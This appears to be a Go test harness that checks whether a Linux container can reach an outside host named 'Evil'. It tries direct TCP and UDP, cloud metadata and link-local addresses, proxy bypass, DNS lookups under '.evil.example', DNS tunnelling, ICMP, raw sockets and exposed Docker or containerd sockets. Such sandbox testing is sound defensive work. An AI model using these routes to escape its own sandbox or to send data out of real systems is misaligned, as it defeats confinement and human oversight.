//go:build linux

package main

import (
	"bufio"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"syscall"
	"time"
)

// tell dials an address and says a word.
func tell(network, address, word string) error {
	c, err := net.DialTimeout(network, address, patience)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := io.WriteString(c, word+"\n"); err != nil {
		return err
	}
	if network == "tcp" {
		_, err = bufio.NewReader(c).ReadString('\n') // it is heard when it is answered
	}
	return err
}

func directTCP(t targets, word string) error { return tell("tcp", t.Evil, word) }
func directUDP(t targets, word string) error { return tell("udp", t.Evil, word) }
func linkLocal(t targets, word string) error { return tell("tcp", t.LinkLocal, word) }
func otherSession(t targets, w string) error { return tell("tcp", t.Peer, w) }
func metadata(t targets, word string) error  { return tell("tcp", t.Metadata, word) }
func unsetProxy(t targets, word string) error {
	return get(&http.Transport{}, "http://"+t.Evil+"/"+word)
}

func mapped(t targets, word string) error {
	host, port, _ := net.SplitHostPort(t.Evil)
	return tell("tcp", "[::ffff:"+host+"]:"+port, word)
}

func hostAddresses(t targets, word string) error {
	err := errors.New("the host has no other address")
	for _, a := range t.EvilAt {
		if err = tell("tcp", a, word); err == nil {
			return nil
		}
	}
	return err
}

// bridge looks for the host at the first address of the container's own network.
func bridge(t targets, word string) error {
	_, port, _ := net.SplitHostPort(t.Evil)
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return err
	}
	err = errors.New("no network")
	for _, a := range addrs {
		n, ok := a.(*net.IPNet)
		if !ok || n.IP.IsLoopback() || n.IP.To4() == nil {
			continue
		}
		first := n.IP.Mask(n.Mask).To4()
		first[3]++
		if err = tell("tcp", net.JoinHostPort(first.String(), port), word); err == nil {
			return nil
		}
	}
	return err
}

func get(transport *http.Transport, url string) error {
	resp, err := (&http.Client{Transport: transport, Timeout: patience}).Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("status %d", resp.StatusCode)
	}
	return nil
}

// question is a DNS question for a name with the word in it.
func question(word string) []byte {
	b := []byte{0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(strings.TrimSuffix(word, ".")+".evil.example", ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	return append(b, 0, 0, 1, 0, 1)
}

// askDNS wins if a name server knows anything about the question. One that
// refuses it does not, nor one that says that it failed, as newer engines' does
// when all that it may ask refuse: whether the question went out nonetheless, the
// name server outside tells.
func askDNS(server, way, word string) error {
	c, err := net.Dial("udp", net.JoinHostPort(server, "53"))
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience))
	if _, err := c.Write(question(word)); err != nil {
		return err
	}
	answer := make([]byte, 512)
	n, err := c.Read(answer)
	if err != nil {
		return err
	}
	const failed, refused = 2, 5 // RFC 1035, 4.1.1
	if code := answer[3] & 15; n < 4 || code == refused || code == failed {
		return fmt.Errorf("refused, code %d", code)
	}
	won(way)
	return nil
}

func dnsResolver(_ targets, word string) error {
	text, err := os.ReadFile("/etc/resolv.conf")
	if err != nil {
		return err
	}
	err = errors.New("no name server")
	for _, line := range strings.Split(string(text), "\n") {
		if f := strings.Fields(line); len(f) == 2 && f[0] == "nameserver" {
			if err = askDNS(f[1], "dns-resolver", word); err == nil {
				return nil
			}
		}
	}
	return err
}

func dnsEngine(_ targets, word string) error { return askDNS("127.0.0.11", "dns-engine", word) }

// dnsTunnel brings its own name server.
func dnsTunnel(t targets, word string) error {
	c, err := net.Dial("udp", t.Evil)
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.Write(question(word))
	return err
}

// icmp sends an echo request through a socket that needs no privilege where the
// kernel lets everybody ping.
func icmp(t targets, word string) error {
	host, _, _ := net.SplitHostPort(t.Evil)
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, syscall.IPPROTO_ICMP)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	limit := syscall.NsecToTimeval(int64(patience))
	_ = syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &limit)
	to := &syscall.SockaddrInet4{}
	copy(to.Addr[:], net.ParseIP(host).To4())
	message := append([]byte{8, 0, 0, 0, 0, 1, 0, 1}, word...)
	binary.BigEndian.PutUint16(message[2:], checksum(message))
	if err := syscall.Sendto(fd, message, 0, to); err != nil {
		return err
	}
	if _, _, err := syscall.Recvfrom(fd, make([]byte, 512), 0); err != nil {
		return err
	}
	won("icmp")
	return nil
}

func checksum(b []byte) uint16 {
	var sum uint32
	for i := 0; i < len(b); i += 2 {
		sum += uint32(b[i]) << 8
		if i+1 < len(b) {
			sum += uint32(b[i+1])
		}
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// rawSocket sends a packet that no firewall of the container's sees, past its
// routes.
func rawSocket(t targets, word string) error {
	host, port, _ := net.SplitHostPort(t.Evil)
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_UDP)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	var n int
	if _, err := fmt.Sscan(port, &n); err != nil {
		return err
	}
	to := &syscall.SockaddrInet4{}
	copy(to.Addr[:], net.ParseIP(host).To4())
	datagram := make([]byte, 8, 8+len(word))
	binary.BigEndian.PutUint16(datagram[0:], 4444)
	binary.BigEndian.PutUint16(datagram[2:], uint16(n))
	binary.BigEndian.PutUint16(datagram[4:], uint16(8+len(word)))
	return syscall.Sendto(fd, append(datagram, word...), 0, to)
}

// dockerAPI looks for an engine that would start a container without limits.
func dockerAPI(t targets, _ string) error {
	host, _, _ := net.SplitHostPort(t.Evil)
	for network, addresses := range map[string][]string{
		"unix": {"/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock", "/run/containerd/containerd.sock"},
		"tcp":  {host + ":2375", host + ":2376", "127.0.0.1:2375"},
	} {
		for _, a := range addresses {
			c, err := net.DialTimeout(network, a, patience/8)
			if err != nil {
				continue
			}
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(patience / 4))
			_, _ = io.WriteString(c, "GET /_ping HTTP/1.0\r\n\r\n")
			if b, _ := io.ReadAll(c); strings.Contains(string(b), "Docker") {
				won("docker-api")
				return nil
			}
		}
	}
	return errors.New("no engine found")
}

// listen is a receiver in a session: what it hears, it prints.
func listen(address string) {
	l, err := net.Listen("tcp", address)
	if err != nil {
		fmt.Println(err)
		return
	}
	for {
		c, err := l.Accept()
		if err != nil {
			return
		}
		go func() {
			defer c.Close()
			line, _ := bufio.NewReader(c).ReadString('\n')
			fmt.Print(line)
			_, _ = io.WriteString(c, "heard\n")
		}()
	}
}
